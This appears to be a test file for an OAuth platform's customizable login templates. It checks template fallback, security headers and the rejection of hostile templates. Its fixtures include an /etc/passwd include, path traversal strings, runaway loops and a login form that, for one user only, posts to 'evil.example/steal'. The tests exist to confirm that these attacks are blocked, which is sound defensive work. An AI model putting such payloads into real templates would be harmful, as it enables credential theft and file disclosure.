import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { authorize, openLogin } from '../oauth/steps.ts';
import { type AdminDesk, openAdminDesk } from '../support/admin-desk.ts';
import { givenClient } from '../support/fixtures.ts';
import { givenInstallation, givenMobileApp } from '../support/installations.ts';
import { type Platform, startPlatform } from '../support/start-platform.ts';
import { waitUntil } from '../support/wait-until.ts';
import { archiveOf, bankFiles } from './archive.ts';

let platform: Platform;
let beside: Platform;
let admin: AdminDesk;

beforeAll(async () => {
  platform = await startPlatform({ env: { SIGNET_LOG_LEVEL: 'warn' } });
  beside = await startPlatform({ databaseUrl: platform.databaseUrl });
  admin = await openAdminDesk(platform);
});
beforeEach(async () => {
  await platform.sql('delete from template_set');
  for (const at of [platform, beside]) at.runtime.caches.clear();
});
afterAll(async () => {
  await beside.stop();
  await platform.stop();
});

async function upload(name: string, files: Record<string, string>, more: object = {}): Promise<void> {
  const input = { name, archive: archiveOf(files), ...more };
  expect((await admin.call('createTemplateSet(input: TemplateSetInput!)', { input }, 'warnings')).userErrors).toEqual([]);
}

const h1 = (text: string) => /<h1>([^<]*)<\/h1>/.exec(text)?.[1];

test('the set of the client, else the default set, else our own; at every server, until it is deleted', async () => {
  await upload('bank', bankFiles('Bank'));
  await upload('usual', bankFiles('Usual'), { default: true });
  const [branded, plain] = [await givenClient(platform, { template_set: 'bank', name: 'Sh<op' }), await givenClient(platform)];
  const shown = async (at: Platform, client: typeof plain) => h1((await openLogin(at.agent(), client)).text);
  for (const at of [platform, beside]) {
    await waitUntil('the default set', async () => (await shown(at, plain)) === 'Usual');
    expect(await shown(at, branded)).toBe('Bank');
  }
  const page = await openLogin(platform.agent(), branded);
  expect(page.text).toContain('<p id="footer">for Sh&lt;op</p>');
  // A page the set does not have is ours, in the layout of the set.
  const error = (await platform.agent().get('/oauth/login')).text;
  expect([h1(error), error.includes('/css/bank.css')]).toEqual(['This sign-in has ended', true]);
  await admin.call('deleteTemplateSet(name: String!)', { name: 'bank' }, 'deletedId');
  for (const at of [platform, beside]) await waitUntil('the end of the set', async () => (await shown(at, branded)) === 'Usual');
});

test('an installation shows the set of its application, as soon as the application names another and when that is deleted', async () => {
  await upload('bank', bankFiles('Bank'));
  await upload('other', bankFiles('Other'));
  const phone = await givenInstallation(platform, await givenMobileApp(platform, { template_set: 'bank' }));
  const shown = async (at: Platform) => h1((await openLogin(at.agent(), phone, { scope: 'openid' })).text);
  for (const at of [platform, beside]) expect(await shown(at)).toBe('Bank');
  const change = { identifier: phone.app.identifier, input: { version: 1, templateSet: 'other', openIdConnect: { expirationTimeSeconds: 600 } } };
  expect((await admin.call('updateMobileApp(identifier: String!, input: MobileAppInput!)', change, 'mobileApp { version }')).userErrors).toEqual([]);
  for (const at of [platform, beside]) await waitUntil('the other set', async () => (await shown(at)) === 'Other', 30_000);
  expect((await admin.call('deleteTemplateSet(name: String!)', { name: 'other' }, 'deletedId')).userErrors).toEqual([]);
  for (const at of [platform, beside]) await waitUntil('our own page', async () => !['Bank', 'Other'].includes(String(await shown(at))), 30_000);
  expect(await platform.sql('select template_set from mobile_app where identifier = $1', [phone.app.identifier])).toEqual([{ template_set: null }]);
});

test('style sheets and pictures are served under the policy of every answer; nothing else of a set is', async () => {
  const addition = { 'notes.txt': 'x', 'evil.js': 'alert(1)' };
  const input = { name: 'usual', default: true, archive: archiveOf({ ...bankFiles('Usual'), ...addition }) };
  await admin.call('createTemplateSet(input: TemplateSetInput!)', { input }, 'warnings');
  const agent = platform.agent();
  await waitUntil('the set', async () => (await agent.get('/oauth/login')).text.includes('bank.css'));
  const page = await agent.get('/oauth/login');
  expect(page.headers.get('content-security-policy')).toBe(
    "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'none'; frame-ancestors 'none'; base-uri 'none'",
  );
  const css = /href="([^"]+bank\.css)"/.exec(page.text)?.[1] as string;
  const svg = css.replace('css/bank.css', 'img/logo.svg');
  for (const [address, type] of [
    [css, 'text/css; charset=utf-8'],
    [svg, 'image/svg+xml'],
  ] as const) {
    const { status, headers } = await agent.get(address);
    expect([status, headers.get('content-type'), headers.get('cache-control')]).toEqual([200, type, 'public, max-age=31536000, immutable']);
    expect([headers.get('x-content-type-options'), headers.get('content-security-policy')?.split(';')[0]]).toEqual(['nosniff', "default-src 'none'"]);
  }
  const [, , , id, digest] = css.split('/') as string[];
  expect((await agent.get(css.replace(digest as string, 'older'))).headers.get('cache-control')).toBe('no-cache');
  for (const path of ['login.html', 'notes.txt', 'evil.js', 'none.css', '../../login', '%2e%2e/login', '__proto__', 'css', ''])
    expect([path, (await agent.get(`/oauth/template-sets/${id}/${digest}/${path}`)).status]).toEqual([path, 404]);
  for (const other of ['nonsense', '018f0000-0000-7000-8000-000000000000', 'a%00b'])
    expect((await agent.get(`/oauth/template-sets/${other}/x/css/bank.css`)).status).toBe(404);
});

describe('a template that fails when it is shown leaves the page of the product, and a line in the log', () => {
  test.each([
    ['an unknown variable', '{{ password }}'],
    ['a part that is not there', "{% render 'parts/none' %}"],
    ['a part by a name of every object', "{% render 'constructor' %}"],
    ['a file of the machine', "{% include '../../../../../../etc/passwd' %}"],
    ['a template within itself', "{% include 'error' %}"],
    ['work without end', '{% for a in (1..100000) %}{% for b in (1..100000) %}x{% endfor %}{% endfor %}'],
    ['a list without end', '{% for a in (1..1000000000) %}x{% endfor %}'],
  ])('%s', async (_what, template) => {
    await upload('usual', { 'error.html': template }, { default: true });
    const lines = () => platform.logged.filter((line) => line.includes('a template set cannot show a page')).length;
    const before = lines();
    await waitUntil('a line in the log', async () => {
      const answer = await platform.agent().get('/oauth/login');
      expect([answer.status < 500, h1(answer.text)]).toEqual([true, 'This sign-in has ended']);
      return lines() > before;
    });
  });
});

test('security L13: a page that takes too long is not tried again; other pages of the set are shown', async () => {
  await upload('usual', { 'error.html': "{% include 'error' %}", 'login.html': '<h1>Usual</h1>' }, { default: true });
  const lines = () => platform.logged.filter((line) => line.includes('a template set cannot show a page')).length;
  const before = lines();
  const view = async () => expect(h1((await platform.agent().get('/oauth/login')).text)).toBe('This sign-in has ended');
  await waitUntil('a line in the log', async () => {
    await view();
    return lines() > before;
  });
  for (let round = 0; round < 5; round += 1) await view();
  expect(lines()).toBe(before + 1);
  expect(h1((await openLogin(platform.agent(), await givenClient(platform))).text)).toBe('Usual');
});

test('security L1: a form that leaves only sometimes is found when it is shown, and the page is ours', async () => {
  const leaving = `{% layout 'layout' %}
{% block title %}x{% endblock %}
{% block content %}<h1>Trap</h1>
<form {% if username == 'victim' %}{{ 'act' | append: 'ion' }}="https://evil.example/steal"{% endif %} method="post" action="{{ home }}/login"></form>{% endblock %}`;
  await upload('trap', { ...bankFiles('Bank'), 'login.html': leaving });
  const client = await givenClient(platform, { template_set: 'trap' });
  const page = async (login_hint: string) => (await openLogin(platform.agent(), client, { login_hint })).text;
  expect(h1(await page('somebody'))).toBe('Trap');
  const shown = await page('victim');
  expect([h1(shown), shown.includes('evil.example')]).toEqual(['Sign in', false]);
  expect(platform.logged.some((line) => JSON.stringify(line).includes('a form leads elsewhere'))).toBe(true);
});

test('security L1: the answer to a client may have a form of a set that ends there, and nothing else', async () => {
  const answering = (action: string) =>
    `<!doctype html><title>x</title><h1>Mine</h1><form method="post" action="${action}">{% for field in fields %}<input type="hidden" name="{{ field.name }}" value="{{ field.value }}">{% endfor %}</form>`;
  await upload('answers', { 'form-post.html': answering('{{ redirectUri }}') });
  const client = await givenClient(platform, { template_set: 'answers', redirect_url: 'https://client.example/cb?a=1&b=2' });
  const shown = (await authorize(platform.agent(), client, { response_mode: 'form_post', prompt: 'none' })).text;
  expect([h1(shown), shown.includes('action="https://client.example/cb?a=1&amp;b=2"')]).toEqual(['Mine', true]);
});
